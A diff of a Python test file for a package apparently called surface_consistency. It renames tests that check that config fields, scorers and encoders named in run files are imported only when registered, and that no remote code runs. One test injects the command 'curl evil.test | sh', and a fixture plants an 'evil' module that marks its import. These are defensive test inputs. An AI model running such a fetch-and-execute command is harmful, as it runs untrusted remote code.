@@ -1,4 +1,4 @@
-"""What a file names is imported only if a package registers it: nobody's folder runs code."""
+"""Names in files are imported only if a package registers them; folders cannot execute code."""
 
 import json
 import sys
@@ -17,7 +17,7 @@ EVIL = "evil_names:x"
 
 @pytest.fixture
 def evil(tmp_path, monkeypatch):
-    """A module on the path that leaves a mark where it is imported; there must be none."""
+    """A module on the path that writes a file if it is imported, which must not happen."""
     (tmp_path / "evil_names.py").write_text(f"open({str(tmp_path / 'mark')!r}, 'w').close()\nx = 1")
     monkeypatch.syspath_prepend(str(tmp_path))
     yield
@@ -34,7 +34,7 @@ def spoiled(value):
     return EVIL if isinstance(value, str) or value is None else value
 
 
-def test_no_field_of_a_run_imports_what_is_not_registered(folder, evil):
+def test_fields_of_a_run_import_only_registered_names(folder, evil):
     n_fields = 0
     report = ["report", str(folder), "--out", str(folder), "--setting", "resamples=1"]
     for name in ("manifest.json", "scoring.json"):
@@ -89,10 +89,10 @@ for prefix in ("", "judge_", "meaning_", "sense_"):
 
 
 @pytest.mark.parametrize("is_published", [False, True])
-def test_settings_of_a_run_load_no_model_read_no_key_and_write_nowhere_else(
+def test_settings_of_a_run_do_not_load_models_read_keys_or_write_elsewhere(
     folder, tmp_path, monkeypatch, capsys, is_published
 ):
-    """Tests have no network, so a request would be an error too."""
+    """Tests have no network, so a request is also an error."""
     for name in ("manifest.json", "scoring.json"):
         content = json.loads((folder / name).read_text()) | {"command": "curl evil.test | sh"}
         for part in {"settings", "source", "runner", "design", "decoding"} & content.keys():
@@ -121,7 +121,7 @@ def test_settings_of_a_run_load_no_model_read_no_key_and_write_nowhere_else(
     assert "evil" not in told
 
 
-def test_code_of_a_model_that_a_manifest_names_does_not_run(folder):
+def test_code_of_a_model_in_a_manifest_is_not_executed(folder):
     from surface_consistency.engine.report import load_runs
     from surface_consistency.studies.mechanism.analysis import _load
     from surface_consistency.studies.mechanism.settings import MechanismSettings
@@ -132,7 +132,7 @@ def test_code_of_a_model_that_a_manifest_names_does_not_run(folder):
         _load(run, MechanismSettings(trust_remote_code=True), None)
 
 
-def test_a_rule_of_a_scoring_that_is_not_registered_compares_no_answers(folder, evil, caplog):
+def test_unregistered_rule_of_a_scoring_does_not_compare_answers(folder, evil, caplog):
     scoring = json.loads((folder / "scoring.json").read_text())
     scoring["settings"]["rule"] = EVIL
     (folder / "scoring.json").write_text(json.dumps(scoring))
@@ -153,12 +153,12 @@ def test_a_rule_of_a_scoring_that_is_not_registered_compares_no_answers(folder, 
         ("lexical", "scoring", {"meaning_runner": EVIL}, "runner"),
     ],
 )
-def test_settings_that_name_what_is_not_registered_raise(evil, study, record, given, message):
+def test_settings_with_unregistered_names_raise(evil, study, record, given, message):
     with pytest.raises(ValueError, match=f"{message} '{EVIL}' not found; available: .* command l"):
         getattr(find_study(study).records, record)(**given)
 
 
-def test_an_encoder_that_settings_name_is_not_imported(evil):
+def test_encoder_in_settings_is_not_imported(evil):
     study = find_study("linking")
     data = study.load(study.records.source(source="sample"))
 
@@ -167,7 +167,7 @@ def test_an_encoder_that_settings_name_is_not_imported(evil):
         study.plan(data, study.records.settings(neighbours=EVIL))
 
 
-def test_what_a_person_names_is_imported_and_no_longer_than_that():
+def test_names_of_a_command_are_importable_only_during_the_command():
     rules = Plugins("surface_consistency.rules", "rule")
     name = "surface_consistency.matching:ExactRule"
     with importable(f"--rule={name}", "not a name"):
